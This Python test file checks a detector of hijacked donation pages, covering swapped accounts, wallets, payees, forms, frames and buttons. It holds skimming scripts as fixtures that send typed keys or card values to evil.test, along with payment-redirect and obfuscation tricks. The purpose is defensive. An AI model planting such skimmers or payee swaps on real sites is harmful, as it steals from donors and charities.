"""Accounts, payees, forms, frames and buttons that nobody approved."""

from __future__ import annotations

import hashlib

import pytest

from aidroute.domain.verdict_names import VerdictClass
from tests.support.judged_pages import (
    NO_BASELINE,
    OTHER_IBAN,
    OUR_IBAN,
    judge,
    link,
    outcome,
    page,
)

SWAPPED = ("hijack_suspect", "payment_target_changed")


def wallet(phrase: str, version: bytes = b"\0") -> str:
    """A well-formed address made from a phrase; nobody can have its key."""
    payload = version + hashlib.sha256(phrase.encode()).digest()[:20]
    payload += hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
    number, letters = int.from_bytes(payload, "big"), ""
    while number:
        number, rest = divmod(number, 58)
        letters = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"[rest] + letters
    return "1" * (len(payload) - len(payload.lstrip(b"\0"))) + letters


SPACED = " ".join(OTHER_IBAN[at : at + 4] for at in range(0, len(OTHER_IBAN), 4))

DISGUISES = [
    OTHER_IBAN,
    SPACED,
    SPACED.replace(" ", "&nbsp;"),
    SPACED.replace(" ", "\u2009"),
    SPACED.replace(" ", "-"),
    SPACED.replace(" ", "."),
    SPACED.replace(" ", "\u00ad"),
    "\u200b".join(OTHER_IBAN),
    "\u2060".join(OTHER_IBAN),
    OTHER_IBAN.lower(),
    f"<b>{OTHER_IBAN[:9]}</b><span>{OTHER_IBAN[9:]}</span>",
    f"{OTHER_IBAN[:2]}<!-- x -->{OTHER_IBAN[2:]}",
    "".join(f"<td>{OTHER_IBAN[at : at + 4]}</td>" for at in range(0, len(OTHER_IBAN), 4)),
    "".join(f"&#{ord(letter)};" for letter in OTHER_IBAN),
    "".join(chr(ord(letter) + 0xFEE0) for letter in OTHER_IBAN),
    OTHER_IBAN.replace("T", "Т").replace("E", "Е"),
    f'<img src="/qr.png" alt="IBAN {OTHER_IBAN}">',
    f'<input readonly value="{SPACED}">',
    f'<button data-clipboard-text="{OTHER_IBAN}">Copy</button>',
    f'<span title="{OTHER_IBAN}">our account</span>',
    f'<script type="application/ld+json">{{"iban": "{OTHER_IBAN}"}}</script>',
    f'<div style="display:none">{OTHER_IBAN}</div>',
]


@pytest.mark.parametrize("disguise", DISGUISES)
def test_another_account_is_seen_however_it_is_written(disguise: str) -> None:
    assert outcome(page(account=disguise)) == SWAPPED
    assert outcome(page(extra=f"<p>{disguise}</p>")) == SWAPPED


@pytest.mark.parametrize(
    "spelling", [OUR_IBAN, OUR_IBAN.lower(), " ".join(OUR_IBAN[a : a + 4] for a in range(0, 22, 4))]
)
def test_the_approved_account_may_be_spelled_anew(spelling: str) -> None:
    assert outcome(page(account=spelling))[0] == "live"


def test_a_number_with_wrong_check_digits_is_no_account() -> None:
    assert outcome(page(extra="<p>Form GB00TEST00000000000077</p>"))[0] == "live"


WALLETS = [
    f"BTC: {wallet('one')}",
    f"BTC {wallet('two', bytes([5]))}",
    f"USDT (TRC20): {wallet('three', bytes([0x41]))}",
    f"LTC {wallet('four', bytes([0x30]))}",
    f"Doge {wallet('five', bytes([0x1E]))}",
    "ETH 0x" + hashlib.sha256(b"six").hexdigest()[:40],
    "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
    f'<a href="bitcoin:{wallet("seven")}?amount=1">Give crypto</a>',
    f'<img src="/qr.png" alt="{wallet("eight")}">',
    f"<script>var address = '{wallet('nine')}';</script>",
]


@pytest.mark.parametrize("words", WALLETS)
def test_a_wallet_that_nobody_approved_is_a_swap(words: str) -> None:
    assert outcome(page(extra=f"<p>{words}</p>")) == SWAPPED


@pytest.mark.parametrize(
    "words",
    [
        "We take no bitcoin and no ethereum.",
        "Commit 0123456789abcdef0123456789abcdef01234567 mends the form.",
        "1BoatSLRHtKNngkdXEeobR76b53LETtpyU",
        "Transaction 0x" + "ab" * 32,
    ],
)
def test_what_only_resembles_a_wallet_is_none(words: str) -> None:
    assert outcome(page(extra=f"<p>{words}</p>"))[0] == "live"


BUSINESS = '<form action="https://www.paypal.com/x"><input type="hidden" name="business" value="{}"></form>'

PAYPAL = '<a href="https://www.paypal.com/donate/?hosted_button_id={}">PayPal</a>'

ELSEWHERE = [
    (PAYPAL.format("OURSAAA111"), PAYPAL.format("THEIRSZZZ9")),
    ('<a href="https://paypal.me/charity">PayPal</a>', '<a href="https://paypal.me/charlty">PayPal</a>'),
    (
        '<a href="https://www.paypal.com/paypalme/charity">PayPal</a>',
        '<a href="https://www.paypal.com/paypalme/thief">PayPal</a>',
    ),
    (
        BUSINESS.format("give@charity.test"),
        BUSINESS.format("give@thief.test"),
    ),
    (
        '<script>PayPal.Donation.Button({hosted_button_id:"OURSAAA111"})</script>',
        '<script>PayPal.Donation.Button({hosted_button_id:"THEIRSZZZ9"})</script>',
    ),
    ("<p>PayPal: give@charity.test</p>", "<p>PayPal: give@thief.test</p>"),
    ('<a href="https://donorbox.org/charity">Give</a>', '<a href="https://donorbox.org/other">Give</a>'),
    (
        '<a href="https://www.gofundme.com/f/our-winter">Give</a>',
        '<a href="https://www.gofundme.com/f/their-winter">Give</a>',
    ),
    (
        '<iframe src="https://donorbox.org/embed/charity"></iframe>',
        '<iframe src="https://donorbox.org/embed/thief"></iframe>',
    ),
    ('<a href="https://send.monobank.ua/jar/AAAA">Jar</a>', '<a href="https://send.monobank.ua/jar/BBBB">Jar</a>'),
    ('<a href="upi://pay?pa=charity@bank">UPI</a>', '<a href="upi://pay?pa=thief@bank">UPI</a>'),
    ("<p>Card: 4539 1488 0343 6467</p>", "<p>Card: 4485 2757 4230 8327</p>"),
    ("<p>Account No. 1930 0123 4567 8900</p>", "<p>Account No. 1930 0999 8888 7700</p>"),
    ("<p>Հաշվեհամար՝ 1930012345678900</p>", "<p>Հաշվեհամար՝ 2470099988887700</p>"),
    ("<p>Р/с 40703810000000000001</p>", "<p>Р/с 40703810999999999992</p>"),
]


@pytest.mark.parametrize(("ours", "theirs"), ELSEWHERE)
def test_another_payee_at_the_same_service_is_a_swap(ours: str, theirs: str) -> None:
    approved = link(approved=page(extra=ours))
    assert outcome(page(extra=ours), approved)[0] == "live"
    assert outcome(page(extra=theirs), approved) == SWAPPED
    assert outcome(page(extra=ours + theirs), approved)[0] in {"hijack_suspect", "content_changed"}


def test_an_allowed_platform_is_not_the_platform_of_all() -> None:
    approved = link(
        approved=page(extra='<a href="https://donorbox.org/charity">Give</a>'),
        allowed_domains=("payment.test", "donorbox.org"),
    )
    assert outcome(page(extra='<a href="https://donorbox.org/other">Give</a>'), approved) == SWAPPED


FORMS = [
    '<form action="https://unknownpay.test/x" method="post"><input name="amount"></form>',
    '<form action="//unknownpay.test/x"><button>Donate</button></form>',
    '<form method="post"><input name="amount"><button formaction="https://unknownpay.test/">Give</button></form>',
    '<form action="http://203.0.113.9/pay" method="post"><input name="amount"></form>',
    '<form action="https://payment.test.unknownpay.test/pay"><input name="sum"></form>',
    '<form action="https://unknownpay.test/"><input type="hidden" name="x"><input type="submit" value="Donate"></form>',
]


@pytest.mark.parametrize("form", FORMS)
def test_a_form_to_a_stranger_is_a_swap(form: str) -> None:
    assert outcome(page(extra=form)) == SWAPPED


def test_a_base_element_moves_every_form() -> None:
    approved = link(approved=page(form="/pay"))
    assert outcome(page(form="/pay"), approved)[0] == "live"
    assert outcome(page(form="/pay", head='<base href="https://unknownpay.test/">'), approved) == SWAPPED


MAILING = "https://charity.us1.list-manage.com/subscribe/post"

HARMLESS_FORMS = [
    '<form action="https://www.google.com/search"><input name="q"></form>',
    '<form action="/search"><input type="search" name="s"></form>',
    f'<form action="{MAILING}" method="post"><input type="email" name="EMAIL"></form>',
    '<form action="https://letters.example.net/x"><input type="email" name="email"><button>Subscribe</button></form>',
    '<form action="https://secure.payment.test/x" method="post"><input name="amount"></form>',
]


@pytest.mark.parametrize("form", HARMLESS_FORMS)
def test_a_search_a_newsletter_and_an_approved_processor_are_no_swap(form: str) -> None:
    assert judge(page(extra=form)).verdict_class in {VerdictClass.OK, VerdictClass.WARN}


def test_a_move_to_another_approved_processor_is_told() -> None:
    judgement = judge(page(form="https://otherpay.test/pay"), link(allowed_domains=("payment.test", "otherpay.test")))
    assert (judgement.verdict.value, judgement.reason) == ("degraded", "payment_provider_moved")
    assert judgement.notes == ("payment_provider_moved",)


def test_a_donate_button_to_a_stranger_is_a_swap() -> None:
    button = '<a class="button" href="https://giving.example.net/c">Donate now</a>'
    assert outcome(page(extra=button)) == ("hijack_suspect", "donation_link_changed")
    assert outcome(page(extra=button), link(approved=page(extra=button)))[0] == "live"


PAYEES = [
    (
        '<form action="https://payment.test/pay"><input type="hidden" name="merchant_id" value="{}"></form>',
        "ours1",
        "evil2",
    ),
    ('<form action="https://payment.test/pay?account={}"><input name="amount"></form>', "ours", "thief"),
    ('<script src="https://www.paypal.com/sdk/js?client-id={}"></script>', "OursAb1", "TheirsZ9"),
    ('<script>Stripe("pk_live_{}")</script>', "ours1234567890", "theirs1234567890"),
    ('<iframe src="https://checkout.stripe.com/embed?client_key={}"></iframe>', "ours", "theirs"),
    ('<a href="https://www.liqpay.ua/api/3/checkout?public_key={}">Give</a>', "ours", "theirs"),
]


@pytest.mark.parametrize(("html", "ours", "theirs"), PAYEES)
def test_another_merchant_at_an_approved_service_is_a_swap(html: str, ours: str, theirs: str) -> None:
    approved = link(
        approved=page(extra=html.format(ours)),
        allowed_domains=("payment.test", "paypal.com", "stripe.com", "liqpay.ua"),
    )
    assert outcome(page(extra=html.format(ours)), approved)[0] == "live"
    assert outcome(page(extra=html.format(theirs)), approved) == SWAPPED


VISITS = [
    '<form action="https://payment.test/pay"><input type="hidden" name="csrf_token" value="{}"></form>',
    '<form action="https://payment.test/pay"><input type="hidden" name="order_id" value="{}"></form>',
    '<form action="https://payment.test/pay/{}9f8a7b"><input name="amount"></form>',
]


@pytest.mark.parametrize("html", VISITS)
def test_what_changes_with_every_visit_is_no_swap(html: str) -> None:
    approved = link(approved=page(extra=html.format("one")))
    assert outcome(page(extra=html.format("two")), approved)[0] == "live"


def test_another_path_at_an_approved_service_needs_a_person() -> None:
    approved = link(approved=page(form="https://payment.test/charity/pay"))
    assert outcome(page(form="https://payment.test/thief/pay"), approved) == ("content_changed", "payment_path_changed")


BUTTONS = [
    "<button onclick=\"location.href='https://giving.example.net/'\">Donate now</button>",
    "<div onclick=\"window.open('https://giving.example.net/')\">Donate</div>",
    "<a href=\"javascript:location.href='https://giving.example.net/'\">Donate</a>",
    '<a href="https://giving.example.net/"><img src="d.png" alt="Donate"></a>',
    '<map><area href="https://giving.example.net/" alt="Donate now"></map>',
    '<a href="https://giving.example.net/">Նվիրաբերել</a>',
    '<a href="https://giving.example.net/">Faire un don maintenant</a>',
    '<a href="https://giving.example.net/">Пожертвовать</a>',
    *(
        f'<a href="https://giving.example.net/">{words}</a>'
        for words in (
            "Jetzt spenden",
            "Donar ahora",
            "Bağış yap",
            "Wesprzyj nas",
            "تبرع الآن",
            "Підтримати",
            "Je donne",
        )
    ),
    '<svg><a xlink:href="https://giving.example.net/"><text>Donate now</text></a></svg>',
    "<input type=button value='Donate now' onclick=\"window.location='https://giving.example.net/'\">",
]


@pytest.mark.parametrize("button", BUTTONS)
def test_a_donate_button_is_one_however_it_is_built(button: str) -> None:
    assert outcome(page(extra=button)) == ("hijack_suspect", "donation_link_changed")


def test_a_longer_link_is_a_button_when_the_approved_one_has_gone() -> None:
    ours = '<a href="https://payment.test/c">Click here to donate to our winter campaign today, please</a>'
    theirs = ours.replace("payment.test", "giving.example.net")
    approved = link(approved=page(form="", extra=ours))
    assert outcome(page(form="", extra=theirs), approved) == ("hijack_suspect", "donation_link_changed")


SCRIPTED_FORMS = [
    "<script>document.forms[0].action = 'https://unknownpay.test/x'</script>",
    "<script>document.getElementById('f').action='https://unknownpay.test/x';</script>",
    "<iframe srcdoc='<form action=https://unknownpay.test/x><input name=amount></form>'></iframe>",
    "<script>document.write('<form action=\"https://unknownpay.test/x\"><input name=amount></form>')</script>",
]


@pytest.mark.parametrize("markup", SCRIPTED_FORMS)
def test_a_form_that_a_script_or_a_frame_brings_is_a_form(markup: str) -> None:
    assert outcome(page(extra=markup)) == SWAPPED


def test_a_story_that_links_to_others_is_no_swap() -> None:
    story = '<p>Read <a href="https://news.example.net/a">how one donor met the family her donation helped</a>.</p>'
    assert outcome(page(extra=story))[0] == "live"


FRAMES = [
    '<iframe src="https://unknownpay.test/form" width="100%" height="600"></iframe>',
    '<embed src="https://unknownpay.test/form">',
    '<object data="https://unknownpay.test/form"></object>',
    "<script>document.write('<iframe src=\"https://unknownpay.test/f\"></iframe>')</script>",
]


@pytest.mark.parametrize("frame", FRAMES)
def test_a_new_frame_from_a_stranger_is_no_longer_the_charitys_page(frame: str) -> None:
    assert outcome(page(extra=frame)) == ("hijack_suspect", "foreign_frame")


def test_a_frameset_over_everything_is_found_without_a_yardstick() -> None:
    frames = (
        '<html><head><title>charity.test</title></head><frameset><frame src="https://evil.test/"></frameset></html>'
    )
    assert outcome(frames, link(approved=NO_BASELINE)) == ("hijack_suspect", "foreign_frame")


@pytest.mark.parametrize("host", ["www.youtube.com", "player.vimeo.com", "www.google.com", "www.openstreetmap.org"])
def test_a_video_or_a_map_is_welcome(host: str) -> None:
    assert outcome(page(extra=f'<iframe src="https://{host}/embed/1"></iframe>'))[0] == "live"


def test_an_invisible_frame_is_told() -> None:
    pixel = '<iframe src="https://count.example.net/p" width="1" height="1"></iframe>'
    judgement = judge(page(extra=pixel))
    assert (judgement.verdict.value, judgement.reason) == ("degraded", "hidden_frame")
    assert "hidden_frame" in judgement.notes


STORIES = [
    "report about our donations", "How donations are taxed", "Where blood donation is possible",
    "We carry the seal for donation transparency", "Share this donation page", "Support", "Powered by Giving Software",
    "Lire l'article sur les dons en nature", "Zeitungsbericht: Spenden kamen an", "Отчёт о пожертвованиях",
]  # fmt: skip


@pytest.mark.parametrize("words", STORIES)
def test_a_link_about_gifts_is_no_button(words: str) -> None:
    assert outcome(page(extra=f'<p><a href="https://news.example.net/a">{words}</a></p>'))[0] == "live"


DISGUISED = [
    "<button onclick=\"navigator.clipboard.writeText('{}')\">Copy</button>",
    "<p>№{}։</p>",
    "<noscript>{}</noscript>",
    '<meta name="description" content="{}">',
]


@pytest.mark.parametrize("markup", DISGUISED)
def test_an_account_hides_in_no_corner(markup: str) -> None:
    assert outcome(page(extra=markup.format(OTHER_IBAN))) == SWAPPED


HIDDEN_FORMS = [
    "<noscript><!--</noscript>{}<!-- -->",
    "<iframe src=\"data:text/html,<form action='https://unknownpay.test/x'><input name=card></form>\"></iframe>",
    "<script>document.querySelector('form').setAttribute('action', 'https://unknownpay.test/x')</script>",
    "<noscript>{}</noscript>",
    "<!-- note --!>{}<!-- -->",
]


@pytest.mark.parametrize("markup", HIDDEN_FORMS)
def test_a_form_hides_behind_no_trick_of_markup(markup: str) -> None:
    form = "<form action='https://unknownpay.test/x'><input name=card></form>"
    assert outcome(page(extra=markup.format(form))) == SWAPPED


def test_without_a_yardstick_nothing_is_known_to_be_new() -> None:
    assert outcome(page(account=OTHER_IBAN), link(approved=NO_BASELINE))[0] == "live"


def test_the_judgement_names_what_changed() -> None:
    judgement = judge(page(account=OTHER_IBAN))
    assert judgement.differences.new_payment_targets == (f"iban:{OTHER_IBAN}",)
    assert judgement.differences.missing_payment_targets == (f"iban:{OUR_IBAN}",)
    assert judgement.fired[0].snippet == f"iban:{OTHER_IBAN}"


NEW_WAYS = [
    "<p>Account number: 1570012345678900</p>",
    "<table><tr><td>Account number</td><td>1570012345678900</td></tr></table>",
    "<p>Swish: 123 000 00 01</p>",
    "<p>Zelle: gifts@other.test</p>",
    "<p>UPI ID: other@samplebank</p>",
    "<p>To donate, write to our treasurer on Telegram: @other_gifts</p>",
    '<p>To donate, <a href="https://t.me/other_gifts">write to our treasurer</a></p>',
    '<p>Donate: <a href="https://wa.me/15550100123">ask us for the new account</a></p>',
    "<p>Give by Western Union to our treasurer.</p>",
    '<form action="mailto:gifts@other.test"><input name="card"><button>Donate</button></form>',
]


@pytest.mark.parametrize("markup", NEW_WAYS)
def test_a_new_payee_that_no_checksum_proves_waits_for_a_person(markup: str) -> None:
    assert outcome(page(extra=markup)) == ("content_changed", "new_account_number")
    assert outcome(page(extra=markup), link(approved=page(extra=markup)))[0] == "live"


@pytest.mark.parametrize(
    "markup",
    [
        '<p>Questions about your donation? <a href="https://t.me/charity">Write to us</a></p>',
        '<p>Share: <a href="https://t.me/share/url?url=x">write to your friends and donate</a></p>',
        '<a href="https://t.me/charitynews">Our channel</a>',
        '<a href="https://docs.google.com/forms/d/e/volunteers/viewform">Become a volunteer</a>',
        '<a href="https://linktr.ee/charity">All our links</a>',
        '<a href="https://github.com/charity/tools">Our code</a>',
        '<img src="https://codes.test/qr?data=https%3A%2F%2Fcharity.test%2Fdonate">',
    ],
)
def test_places_where_anybody_writes_or_asks_are_no_payees_by_themselves(markup: str) -> None:
    assert outcome(page(extra=markup))[0] == "live"


PAID_ELSEWHERE = [
    ('<a href="https://github.com/sponsors/{}">Sponsor</a>', "ours", "theirs"),
    ('<a href="https://docs.google.com/forms/d/e/{}/viewform">Donate</a>', "ours", "theirs"),
    ('<img src="https://codes.test/qr?data=upi%3A%2F%2Fpay%3Fpa%3D{}%40bank">', "ours", "theirs"),
    ('<img src="https://codes.test/qr?data=https%3A%2F%2Fpaypal.me%2F{}">', "ours", "theirs"),
    ("<p>paypal.me/{}</p>", "ours", "theirs"),
    ('<iframe src="https://docs.google.com/forms/d/e/{}/viewform"></iframe>', "ours", "theirs"),
    ("<script>kofiwidget2.init('Support','#29abe0','{}')</script>", "A1B2C3", "Z9Y8X7"),
    ("<script data-id='{}' src='https://cdn.buymeacoffee.com/widget.js'></script>", "ours", "theirs"),
]


@pytest.mark.parametrize(("html", "ours", "theirs"), PAID_ELSEWHERE)
def test_a_payee_behind_a_code_a_widget_or_a_written_address_is_one(html: str, ours: str, theirs: str) -> None:
    approved = link(approved=page(extra=html.format(ours)))
    assert outcome(page(extra=html.format(ours)), approved)[0] == "live"
    assert outcome(page(extra=html.format(theirs)), approved) == SWAPPED


def test_a_form_that_anybody_opened_is_a_payee_when_the_link_asks_for_gifts() -> None:
    assert outcome(page(extra='<p>Cards fail. <a href="https://forms.gle/zzz">Give here instead</a></p>')) == SWAPPED


@pytest.mark.parametrize(
    "script",
    [
        "document.addEventListener('input',e=>navigator.sendBeacon('https://evil.test/k',e.target.value))",
        "var x=new XMLHttpRequest();x.open('POST','https://evil.test/c');x.send(card.value)",
        "document.onkeyup=e=>{new Image().src='https://evil.test/?'+e.key}",
        "var w=new WebSocket('wss://evil.test/'); onkeyup=e=>w.send(e.key)",
        "form.addEventListener('submit',function(e){e.preventDefault();location='https://evil.test/pay'})",
        "form.onsubmit=()=>{location.href='https://evil.test/pay'}",
        "eval(\"document.forms[0].action='https://evil.test/pay'\")",
    ],
)
def test_a_script_that_sends_what_is_typed_to_a_stranger_is_a_swap(script: str) -> None:
    assert outcome(page(extra=f"<script>{script}</script>")) == SWAPPED


@pytest.mark.parametrize(
    "script",
    [
        "navigator.sendBeacon('https://stats.test/c', JSON.stringify({at: location.href}))",
        "new Image().src='https://stats.test/pixel?'+Date.now()",
        "find.onkeyup=e=>fetch('https://search.test/?q='+e.target.value).then(show)",
        "form.addEventListener('submit',function(e){e.preventDefault();location='/thanks'})",
        "form.addEventListener('submit',function(e){location='https://payment.test/pay'})",
    ],
)
def test_a_script_that_counts_visits_searches_or_pays_as_approved_is_no_swap(script: str) -> None:
    assert outcome(page(extra=f"<script>{script}</script>"))[0] == "live"
